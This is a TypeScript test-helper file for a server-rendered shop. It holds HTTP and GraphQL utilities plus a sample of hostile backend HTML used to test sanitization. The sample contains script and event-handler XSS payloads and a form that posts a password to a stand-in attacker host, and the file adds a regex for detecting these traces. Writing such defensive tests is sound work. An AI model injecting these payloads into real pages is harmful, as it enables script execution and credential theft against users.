import { createGraphqlClient } from '../../src/app/services/graphql/client';
import { request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';

export interface RawResponse {
  status: number;
  headers: IncomingHttpHeaders;
  /** The body as sent on the wire. */
  raw: Buffer;
  /** The body decoded per Content-Encoding. */
  text: string;
}

/** A request without any client-side decompression, to see exactly what the server sends. */
export function request(
  base: string,
  path: string,
  { method = 'GET', headers = {}, body }: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(new URL(path, base), { method, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => {
        const raw = Buffer.concat(chunks);
        const encoding = res.headers['content-encoding'];
        const decoded = encoding === 'br' ? brotliDecompressSync(raw) : encoding === 'gzip' ? gunzipSync(raw) : raw;
        resolve({ status: res.statusCode ?? 0, headers: res.headers, raw, text: decoded.toString('utf8') });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

export function listening(server: Server): Promise<string> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

interface PersistedActor {
  value: unknown;
  context: Record<string, unknown>;
  children: Record<string, { snapshot: PersistedActor }>;
}

/** In a server's persisted snapshot of the shop, the machine of the page the router shows (its context names it). */
export function shownPage(state: string): PersistedActor {
  const router = (JSON.parse(state) as PersistedActor).children.router!.snapshot;
  const { id } = (router.context.shown as { ref: { id: string } }).ref;
  return router.children[id]!.snapshot;
}

/** A server render's client whose answers to `operation` pass through `rewrite` (the backend's data, changed in place). */
export function rewritingClient<Data>(graphqlUrl: string, operation: string, rewrite: (data: Data) => void) {
  return createGraphqlClient({
    url: graphqlUrl,
    identity: { storeCode: () => 'fr', currency: () => null, token: () => null, cacheId: () => null, preview: () => null },
    config: () => ({}),
    fetch: async (input, init) => {
      const response = await fetch(input, init);
      if (new URL(String(input)).searchParams.get('operationName') !== operation) return response;
      const answer = (await response.json()) as { data: Data };
      rewrite(answer.data);
      return Response.json(answer);
    },
  });
}

/** Backend HTML as an attacker would write it: a script, handlers, a script link, a frame and a form posting elsewhere. */
export const HOSTILE_HTML =
  '<script>alert(1)</script><img src="x" onerror="alert(2)"><a href="javascript:alert(3)">Ma page</a>' +
  '<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/steal"><input type="password" name="p"></form>';

/** What must never reach a page from HOSTILE_HTML. */
export const HOSTILE_TRACES = /<script|onerror|onclick|javascript:|<iframe|<form|type="password"|evil\.example|alert\(/;
